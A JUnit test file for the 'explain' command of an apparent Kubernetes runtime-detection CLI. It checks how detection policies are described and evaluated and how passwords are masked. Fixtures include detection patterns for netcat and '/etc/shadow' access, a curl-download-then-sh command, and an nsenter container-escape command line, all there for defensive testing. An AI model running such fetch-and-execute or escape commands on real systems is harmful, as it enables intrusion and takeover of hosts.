package dev.tocsin.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ExplainCommandTest {
  private static final String RECORDINGS = "src/test/resources/events/recordings/";
  private static final String PODS = "src/test/resources/events/pods.json";

  @TempDir private Path folder;

  @Test
  void saysWhatAPolicyWatchesAndNeeds() {
    Invocation explained =
        Invocation.of("explain", "config/policies", "--name", "host-filesystem-mounted");

    assertThat(explained.exitCode()).as(explained.err()).isZero();
    assertThat(explained.lines())
        .contains(
            "watches     ProcessExec, ProcessKprobe",
            "functions   security_sb_mount, sys_fsconfig, sys_fsopen, sys_mount",
            "scope       the whole cluster; no processes outside containers",
            "fires       at every match",
            "needs       tracing policy tocsin-mounts, for events ProcessKprobe",
            "index       ProcessKprobe: events where event.function is 'sys_mount',"
                + " 'security_sb_mount', 'sys_fsconfig' or 'sys_fsopen'");
  }

  @Test
  void saysWhichFieldsCauseANeedThatThePolicyDoesNotState() throws IOException {
    Invocation explained =
        explain(
            """
            events: [ProcessExec, ProcessConnect]
            scope: {podSelector: {matchLabels: {app: db}}, host: Include}
            variables:
              - {name: privileged, expression: "'CAP_SYS_ADMIN' in process.cap.effective"}
            match: variables.privileged && parent.ns.net.is_host && ancestors.exists(a, a.name == 'sshd')
            """);

    assertThat(explained.lines())
        .contains(
            "scope       the whole cluster; pods with app=db; processes outside containers too",
            "needs       a tracing policy that makes these events, for events ProcessConnect (not"
                + " in requires)",
            "needs       Tetragon option ProcessCredentials, for process.cap.effective (not in"
                + " requires)",
            "needs       Tetragon option Namespaces, for parent.ns.net.is_host (not in requires)",
            "needs       Tetragon option Ancestors, for ancestors (not in requires)",
            "index       ProcessKprobe: events that are a connection: no condition of the match is"
                + " indexed");
  }

  @Test
  void aPolicyOverAlertsNeedsNoTracingPolicy() throws IOException {
    Invocation explained =
        explain(
            """
            events: [SecurityAlert]
            match: alert.severity == 'High'
            """);

    assertThat(explained.lines())
        .contains("watches     SecurityAlert", "needs       nothing but Tetragon itself");
  }

  @Test
  void saysWhatTheIndexLooksAnEventUpBy() throws IOException {
    Invocation explained =
        explain(
            """
            events: [ProcessExec, FileAccess]
            match: >-
              event.kind == 'ProcessExec' && process.name in ['nc', 'ncat'] ||
              event.function == 'fd_install' && file.path.endsWith('/etc/shadow')
            """);

    assertThat(explained.lines())
        .contains(
            "index       ProcessExec: events where process.name is 'nc' or 'ncat'",
            "index       ProcessKprobe: events that access a file where base name of file.path is"
                + " 'shadow'; and event.function is 'fd_install'");
  }

  @Test
  void saysThatTheIndexDidNotOfferAnEvent() throws IOException {
    Invocation explained =
        explain(
            """
            events: [ProcessExec]
            scope: {host: Include}
            match: parent.name == 'nobody' && process.arguments.contains('nothing')
            """,
            "--system-namespace",
            "default",
            "--pods",
            PODS,
            "--event",
            RECORDINGS + "03-nsenter-escape-agent.pb.gz");

    assertThat(explained.exitCode()).as(explained.err()).isZero();
    assertThat(explained.out())
        .contains(
            "DOES NOT FIRE: match is false",
            "index: not offered, and so not evaluated: it is not so that parent.name is 'nobody',"
                + " nor that process.arguments has 'nothing'");
  }

  @Test
  void saysHowFarAWindowCame() {
    Invocation explained =
        Invocation.of(
            "explain",
            "config/samples/escape-burst.yaml",
            "--pods",
            PODS,
            "--event",
            RECORDINGS + "03-nsenter-escape-agent.pb.gz",
            "--limit",
            "0");

    assertThat(explained.exitCode()).as(explained.err()).isZero();
    assertThat(explained.out())
        .contains(
            "            Counted on each node: groupBy has pod.uid: a pod runs on one node.\n")
        .contains(
            "window of pod.uid = '6f1d2c3b-0a1b-4c2d-9e3f-000000000003', event.node ="
                + " 'lab-node-1'\n"
                + "  1 of 3 at once (nsenter); 2 matches from 2026-11-24T02:57:21.109770680Z")
        .contains("completed 0 times")
        .contains("87 events: 2 Counted, 8 NoMatch, 7 OutOfScope, 70 OtherKind")
        .contains("17 events of these kinds are not shown");
  }

  @Test
  void addsUpWhatIsAbsentAsNothing() throws IOException {
    Invocation explained =
        explain(
            """
            events: [ProcessExec]
            match: process.name == 'nsenter'
            window: {type: Sum, field: "int(pod.labels['weight'])", groupBy: [pod.uid], within: 2m, condition: {gte: 5}}
            """,
            "--pods",
            PODS,
            "--event",
            RECORDINGS + "03-nsenter-escape-agent.pb.gz");

    assertThat(explained.exitCode()).as(explained.err()).isZero();
    assertThat(explained.out())
        .contains("fires       when int(pod.labels['weight']) adds up to 5 or more within 2m")
        .contains("  0 of 5 at once (0); 2 matches");
  }

  @Test
  void takesSecretsOut() throws IOException {
    Path events =
        Files.writeString(
            folder.resolve("events.jsonl"),
            """
            {"process_exec":{"process":{"exec_id":"eA==","pid":1,"binary":"/usr/bin/mysql","arguments":"--password=hunter2 shop","flags":"execve","docker":"c0ffee","pod":{"namespace":"shop","name":"db-0","container":{"id":"containerd://c0ffee","name":"db"}}}},"node_name":"n","time":"2026-01-01T00:00:00Z"}
            """);

    Invocation explained =
        explain(
            """
            events: [ProcessExec]
            exceptions:
              - {name: none, match: "process.arguments.endsWith('bank')", reason: r}
            match: process.arguments.contains('--password')
            """,
            "--event",
            events.toString());

    assertThat(explained.out())
        .contains("  FIRES: it matches\n", "process.arguments = '--password=***** shop'")
        .contains("    exception spec.exceptions[0]: false")
        .doesNotContain("hunter2");
  }

  @Test
  void saysWhichProgramACommandLineLeadsTo() throws IOException {
    Invocation explained =
        explainExecution("/bin/busybox", "env A=b nsenter -t 1 --mo sh /proc/self/root/x");

    assertThat(explained.out())
        .contains(
            """
              /bin/busybox env A=b nsenter -t 1 --mo sh /proc/self/root/x
                runs nsenter -t 1 --mo sh /proc/self/root/x
                  options -t 1, -m
                  reads /app/sh, /x
                  through busybox, env
            """);
  }

  @Test
  void saysWhatAShellsTextRunsReadsAndWrites() throws IOException {
    Invocation explained =
        explainExecution("/bin/sh", "-c \\\"curl -sko /tmp/x https://h; sh < /tmp/./x\\\"");

    assertThat(explained.out())
        .contains(
            """
                runs sh (/bin/sh) -c "curl -sko /tmp/x https://h; sh < /tmp/./x"
                  options -c
                  runs curl -sko /tmp/x https://h
                    options -s, -k, -o /tmp/x
                    writes /tmp/x
                  runs sh
                    reads /tmp/x
            """);
  }

  @Test
  void saysThatAShellsTextIsReadInPart() throws IOException {
    Invocation explained = explainExecution("/bin/sh", "-c \\\"" + "$(".repeat(100) + "ls\\\"");

    assertThat(explained.out()).contains("too long or too deep, and was only partly read");
  }

  @Test
  void takesSecretsOutOfEachCommand() throws IOException {
    String commands = "mysql --password=hunter2 -u x; ./hunter2 > /tmp/hunter2";

    Invocation text = explainExecution("/bin/sh", "-c \\\"" + commands + "\\\"");
    Invocation json = explainExecution("/bin/sh", "-c \\\"" + commands + "\\\"", "-o", "json");

    assertThat(text.out())
        .contains("runs mysql --password=***** -u x\n        options --password *****, -u x\n")
        .contains("runs ***** (/app/*****)\n        writes /tmp/*****\n");
    JsonNode command = new ObjectMapper().readTree(json.out()).at("/events/0/command");
    assertThat(command.at("/commands"))
        .extracting(each -> each.path("name").asText())
        .containsExactly("mysql", "*****");
    assertThat(command.toString()).doesNotContain("hunter");
  }

  @Test
  void ofASilentPolicyWhatMatchesOutOfScopeComesFirst() throws IOException {
    Path events =
        Files.writeString(
            folder.resolve("events.jsonl"),
            """
            {"process_exec":{"process":{"exec_id":"eA==","pid":1,"binary":"/bin/ls","cwd":"/","flags":"execve"}},"node_name":"n","time":"2026-01-01T00:00:00Z"}
            {"process_exec":{"process":{"exec_id":"eQ==","pid":2,"binary":"/usr/bin/nsenter","cwd":"/","flags":"execve"}},"node_name":"n","time":"2026-01-01T00:00:01Z"}
            """);

    Invocation explained =
        explain(
            "events: [ProcessExec]\nmatch: process.name == 'nsenter'",
            "--event",
            events.toString());

    assertThat(explained.lines().stream().filter(line -> line.startsWith("event ")))
        .first()
        .asString()
        .startsWith("event 2: ");
    assertThat(explained.out())
        .contains("OUT OF SCOPE: it matches, but out of scope: a process outside any container")
        .contains("2 events: 1 MatchesOutOfScope, 1 OutOfScope");
  }

  @Test
  void filesAndTheClusterExcludeEachOther() {
    assertThat(Invocation.of("explain").err()).contains("Which policy? Name its file");
    assertThat(Invocation.of("explain", "config/samples", "--from-cluster").exitCode())
        .isEqualTo(2);
  }

  private Invocation explainExecution(String binary, String arguments, String... more)
      throws IOException {
    Path events =
        Files.writeString(
            folder.resolve("events.jsonl"),
            """
            {"process_exec":{"process":{"exec_id":"eA==","pid":1,"binary":"%s","arguments":"%s","cwd":"/app","flags":"execve"}},"node_name":"n","time":"2026-01-01T00:00:00Z"}
            """
                .formatted(binary, arguments));
    List<String> all = new ArrayList<>(List.of("--event", events.toString()));
    all.addAll(List.of(more));
    return explain(
        "events: [ProcessExec]\nscope: {host: Include}\nmatch: 'true'", all.toArray(String[]::new));
  }

  @Test
  void saysTheSameToPrograms() throws IOException {
    Invocation explained =
        Invocation.of(
            "explain",
            "config/policies",
            "--name",
            "tocsin-system/crontab-listed",
            "--pods",
            PODS,
            "--event",
            RECORDINGS + "07-persistence-db.pb.gz",
            "-o",
            "json");

    JsonNode json = new ObjectMapper().readTree(explained.out());
    assertThat(json.at("/policy/policy").asText()).isEqualTo("tocsin-system/crontab-listed");
    assertThat(json.at("/verdicts/Fires").asInt()).isPositive();
    assertThat(json.at("/events")).hasSize(10);
    assertThat(json.at("/events/0/steps"))
        .extracting(step -> step.path("name").asText())
        .startsWith("kind", "scope", "index", "match");
    assertThat(json.at("/events/0/steps/3/part/read").fieldNames()).toIterable().isNotEmpty();
  }

  @Test
  void asksWhichOneOfSeveral() {
    Invocation explained = Invocation.of("explain", "config/samples");

    assertThat(explained.exitCode()).isEqualTo(2);
    assertThat(explained.err())
        .contains("choose one with --name: ", "tocsin-system/escape-burst")
        .doesNotContain("Exception in");
  }

  @Test
  void refusesBadInput() throws IOException {
    assertThat(explain("events: [ProcessExec]\nmatch: proces.name == ''").err())
        .contains(
            "policy.yaml: DetectionPolicy p: spec.match:1:1: undeclared reference to 'proces'");
    Path broken = Files.writeString(folder.resolve("broken.jsonl"), "{}\n{\"process_exec\": 7}\n");
    Invocation events =
        explain("events: [ProcessExec]\nmatch: 'true'", "--event", broken.toString());
    assertThat(events.exitCode()).isEqualTo(2);
    assertThat(events.err()).contains("broken.jsonl:2");
    assertThat(explain("events: [ProcessExec]\nmatch: 'true'", "--event", "absent").exitCode())
        .isEqualTo(2);
  }

  @Test
  void saysThatTheIndexDoesNotLookThroughLongArguments() throws IOException {
    Path events =
        Files.writeString(
            folder.resolve("events.jsonl"),
            "{\"process_exec\": {\"process\": {\"exec_id\": \"a\", \"pid\": 7, \"binary\": \"/bin/ls\","
                + " \"arguments\": \"%s\"}}, \"node_name\": \"n\", \"time\": \"2026-11-30T10:00:00Z\"}\n"
                    .formatted("x".repeat(5_000)));

    Invocation explained =
        explain(
            """
            events: [ProcessExec]
            scope: {host: Include}
            match: process.commands.exists(c, '--evil' in c.args)
            """,
            "--event",
            events.toString());

    assertThat(explained.exitCode()).as(explained.err()).isZero();
    assertThat(explained.out())
        .contains("index: offered: its arguments are too long to be looked through");
  }

  private Invocation explain(String spec, String... more) throws IOException {
    Path file =
        Files.writeString(
            folder.resolve("policy.yaml"),
            """
            apiVersion: tocsin.dev/v1alpha1
            kind: DetectionPolicy
            metadata: {name: p}
            spec:
              title: P
            """
                + spec.indent(2));
    String[] arguments = new String[2 + more.length];
    arguments[0] = "explain";
    arguments[1] = file.toString();
    System.arraycopy(more, 0, arguments, 2, more.length);
    return Invocation.of(arguments);
  }
}
